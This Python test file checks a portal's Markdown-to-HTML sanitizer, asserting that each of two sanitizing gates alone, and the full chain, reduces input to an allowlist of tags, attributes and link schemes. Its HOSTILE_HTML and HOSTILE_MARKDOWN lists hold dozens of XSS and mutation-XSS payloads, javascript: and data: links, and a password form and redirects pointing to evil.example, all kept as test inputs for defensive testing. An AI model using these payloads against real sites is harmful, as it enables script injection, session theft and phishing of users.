"""Organisers' Markdown becomes HTML that is safe because each gate alone makes it so."""

import re
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from portal.text.markdown import ORGANISERS, Allowlist, first_gate, organisers_html, plain_text, second_gate, to_html

Gate = Callable[[str, Allowlist], str]
GATES = pytest.mark.parametrize("gate", [first_gate, second_gate])

HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) style='position:fixed' id=inhalt class=notice>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://x.example' target=_blank rel=opener ping=https://evil.example>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<h1>Titel</h1><h2 id='these-1'>These</h2>",
]

HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x][1]\n\n[1]: JavaScript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '[x](https://x.example "onmouseover=alert(1)")',
    '[x](https://x.example" onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "https://x.example/<script>alert(1)</script>",
    "https://bank.example@evil.example",
]


def assert_harmless(html: str) -> None:
    """Parsed by a third parser, the HTML has only what is allowed."""
    for node in LexborHTMLParser(f"<body>{html}</body>").css("body *"):
        assert node.tag in ORGANISERS.tags, f"<{node.tag}> in {html!r}"
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(node.tag, set())
        assert set(node.attributes) <= allowed, f"{node.attributes} in {html!r}"
        href = node.attributes.get("href")
        if href is not None:
            assert re.match(r"(https?://[^@\\]+|mailto:[^\s]+|/(?![/\\]).*|#.*)\Z", href, re.IGNORECASE), href


@GATES
@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_each_gate_alone_stops_hostile_html(gate: Gate, html: str) -> None:
    assert_harmless(gate(html, ORGANISERS))


@GATES
@pytest.mark.parametrize("source", [*HOSTILE_MARKDOWN, *HOSTILE_HTML])
def test_each_gate_alone_stops_hostile_markdown(gate: Gate, source: str) -> None:
    assert_harmless(gate(to_html(source), ORGANISERS))


@pytest.mark.parametrize("source", [*HOSTILE_MARKDOWN, *HOSTILE_HTML])
def test_the_whole_chain_stops_both(source: str) -> None:
    assert_harmless(organisers_html(source))


@GATES
@given(st.text(st.sampled_from("<>\"'&;:/\\aijshrcpt=# \n\t!-[]()*`_@\x00"), max_size=80))
def test_each_gate_alone_stops_what_nobody_thought_of(gate: Gate, source: str) -> None:
    assert_harmless(gate(source, ORGANISERS))


@given(st.text(max_size=200))
def test_any_text_becomes_harmless_html(source: str) -> None:
    assert_harmless(organisers_html(source))


def test_what_organisers_need_is_there() -> None:
    html = organisers_html(
        "### Zwischenüberschrift\n\n**fett** und *betont*, [Impressum](/impressum), [Mail](mailto:a@example.org)\n\n"
        "- eins\n- zwei\n\n3. drittens\n\n> Zitat\n\nSiehe https://www.example.org/a_b?c=1&d=2."
    )
    page = LexborHTMLParser(html)
    for tag in ("h3", "strong", "em", "ul > li", "ol[start='3'] > li", "blockquote > p"):
        assert page.css_first(tag) is not None, tag
    links = [link.attributes for link in page.css("a")]
    assert [link["href"] for link in links] == [
        "/impressum",
        "mailto:a@example.org",
        "https://www.example.org/a_b?c=1&d=2",
    ]
    assert {link["rel"] for link in links} == {"noopener"}


@pytest.mark.parametrize(
    "words",
    ["a<b und c>d", "<Name der Einrichtung>", "README.md und datei.py", "AT&T", "&lt;", "3 * 4 = 12", "<b>fett</b>"],
)
def test_text_that_looks_like_code_survives(words: str) -> None:
    html = organisers_html(words)
    assert "<a" not in html
    shown = LexborHTMLParser(html).css_first("p")
    assert shown is not None
    assert shown.text() == words.replace("&lt;", "<")


def test_an_address_in_backticks_stays_text() -> None:
    assert "<a" not in organisers_html("`https://www.example.org`")


@pytest.mark.parametrize("source", ["* " * 500, "> " * 500, "- " * 500 + "x"])
def test_what_the_parser_cannot_cope_with_is_plain_and_poisons_nothing(source: str) -> None:
    assert_harmless(organisers_html(source))
    assert organisers_html("**x**") == "<p><strong>x</strong></p>"


def test_a_parser_that_gives_up_leaves_escaped_paragraphs(monkeypatch: pytest.MonkeyPatch) -> None:
    def give_up(_source: str) -> str:
        raise RecursionError

    monkeypatch.setattr("portal.text.markdown.to_html", give_up)
    assert organisers_html("<b>eins</b>\n\nzwei given up") == "<p>&lt;b&gt;eins&lt;/b&gt;</p>\n<p>zwei given up</p>"


def test_plain_text_is_the_words_alone() -> None:
    assert plain_text("### Eins\n\n**zwei** <drei> & [vier](/x)") == "Eins zwei <drei> & vier"
